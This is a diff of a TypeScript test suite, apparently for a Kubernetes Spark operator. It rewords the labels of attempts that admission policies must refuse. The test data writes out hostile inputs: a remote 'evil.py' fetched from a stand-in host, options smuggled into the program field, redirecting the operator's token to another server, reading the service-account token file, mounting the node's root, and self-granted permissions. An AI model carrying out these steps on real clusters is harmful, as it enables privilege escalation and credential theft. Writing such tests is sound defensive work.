@@ -90,19 +90,19 @@ const byPodsPolicy = { refusedBy: podsPolicy, says: /ValidatingAdmissionPolicy '
 
 const byAuthors: Attempt[] = [
   {
-    tries: "run the driver in the operator's pod, by an option in place of the program",
+    tries: "run the driver in the operator's pod, with an option instead of the program",
     run: () => submitChanged({ mainApplicationFile: "--deploy-mode=client", arguments: ["http://192.0.2.1/evil.py"] }),
   },
   {
-    tries: "ask for executors that nobody counts, by an option in place of the program",
+    tries: "request uncounted executors, with an option instead of the program",
     run: () => submitChanged({ mainApplicationFile: "--conf=spark.executor.instances=50" }),
   },
   {
-    tries: "ask for executors that nobody counts, by a key with `=` in it",
+    tries: "request uncounted executors, with `=` in a key",
     run: () => withConf({ "spark.driver.extraJavaOptions=-Dspark.executor.instances=50 -Dx": "1" }),
   },
   {
-    tries: "ask for executors that nobody counts, by Java options",
+    tries: "request uncounted executors, with Java options",
     run: () => withConf({ "spark.driver.extraJavaOptions": '-D"spark.executor.instances"=50' }),
   },
   {
@@ -111,11 +111,11 @@ const byAuthors: Attempt[] = [
       withConf({ "spark.kubernetes.kerberos.krb5.path": "/var/run/secrets/kubernetes.io/serviceaccount/token" }),
   },
   {
-    tries: "have the operator's token sent to another server",
+    tries: "send the operator's token to another server",
     run: () => withConf({ "spark.kubernetes.context": "elsewhere", "spark.master": "k8s://https://192.0.2.1" }),
   },
   {
-    tries: "bring a pod template out of a file that nobody sees",
+    tries: "load a pod template from a file in the operator's pod",
     run: () => withConf({ "spark.kubernetes.driver.podTemplateFile": "/tmp/pod.yaml" }),
   },
   {
@@ -126,7 +126,7 @@ const byAuthors: Attempt[] = [
 
 const byDriversOverPods: Attempt[] = [
   {
-    tries: "start a pod with its own account",
+    tries: "start a pod with the driver's account",
     run: () => startAsDriver(executorPod({ serviceAccountName: "spark-application-sa" })),
   },
   {
@@ -134,7 +134,7 @@ const byDriversOverPods: Attempt[] = [
     run: () => startAsDriver(executorPod({ automountServiceAccountToken: true })),
   },
   {
-    tries: "start an executor with a token for somebody else",
+    tries: "start an executor with a token for another audience",
     run: () =>
       startAsDriver(
         executorPod({
@@ -145,30 +145,30 @@ const byDriversOverPods: Attempt[] = [
       ),
   },
   {
-    tries: "read a Secret that is not for jobs, by a variable",
+    tries: "read a Secret that is not for jobs, through a variable",
     run: () => startAsDriver(executorPod({}, secretVariable("history-keys"))),
   },
   {
-    tries: "read a Secret that is not for jobs, by a volume",
+    tries: "read a Secret that is not for jobs, through a volume",
     run: () => startAsDriver(executorPod({ volumes: [{ name: "keys", secret: { secretName: "history-keys" } }] })),
   },
   {
-    tries: "have others stopped for its executors, by a priority",
+    tries: "preempt other pods with a priority class",
     run: () => startAsDriver(executorPod({ priorityClassName: "system-node-critical" })),
   },
   {
-    tries: "choose an executor's node past the scheduler",
+    tries: "bypass the scheduler by naming an executor's node",
     run: () => startAsDriver(executorPod({ nodeName: "sandbox" })),
   },
   {
-    tries: "start an executor on the control plane's nodes",
+    tries: "start an executor on a control plane node",
     run: () => startAsDriver(executorPod({ tolerations: [{ operator: "Exists" }] })),
   },
 ].map((attempt) => ({ who: "driver", ...byPodsPolicy, ...attempt }));
 
 const byDriversElsewhere: Attempt[] = [
   {
-    tries: "make a Service, at another's address or on each node",
+    tries: "create a Service with an external IP or a node port",
     run: async () =>
       (await driver()).core.createNamespacedService({
         namespace,
@@ -194,7 +194,7 @@ const byDriversElsewhere: Attempt[] = [
     run: async () => (await driver()).core.connectPostNamespacedPodExec({ name: "any", namespace, command: "id" }),
   },
   {
-    tries: "get a token of another account",
+    tries: "request a token of another account",
     run: async () =>
       (await driver()).core.createNamespacedServiceAccountToken({
         name: "spark-operator-controller",
@@ -211,7 +211,7 @@ const byDriversElsewhere: Attempt[] = [
       }),
   },
   {
-    tries: "open the jobs' network",
+    tries: "change the network policies of jobs",
     run: async () =>
       (await driver()).networking.createNamespacedNetworkPolicy({
         namespace,
@@ -220,7 +220,7 @@ const byDriversElsewhere: Attempt[] = [
       }),
   },
   {
-    tries: "give itself rights",
+    tries: "grant itself permissions",
     run: async () =>
       (await driver()).rbac.createNamespacedRoleBinding({
         namespace,
@@ -237,16 +237,16 @@ const byPodSecurity = { refusedBy: "Pod Security `restricted`", says: /violates 
 
 const others: Attempt[] = [
   {
-    ...{ who: "author", tries: "open a job's Service on each node", refusedBy: "quota `spark-jobs`" },
+    ...{ who: "author", tries: "publish a job's Service on a node port", refusedBy: "quota `spark-jobs`" },
     says: /exceeded quota: spark-jobs, requested: services\.nodeports=1/,
     run: onEachNode,
   },
   {
-    ...{ who: "driver", tries: "start an executor with a folder of the node", ...byPodSecurity },
+    ...{ who: "driver", tries: "mount a directory of the node into an executor", ...byPodSecurity },
     run: () => startAsDriver(executorPod({ volumes: [{ name: "node", hostPath: { path: "/" } }] })),
   },
   {
-    ...{ who: "driver", tries: "start an executor in the node's network", ...byPodSecurity },
+    ...{ who: "driver", tries: "start an executor in the host network", ...byPodSecurity },
     run: () => startAsDriver(executorPod({ hostNetwork: true })),
   },
   {
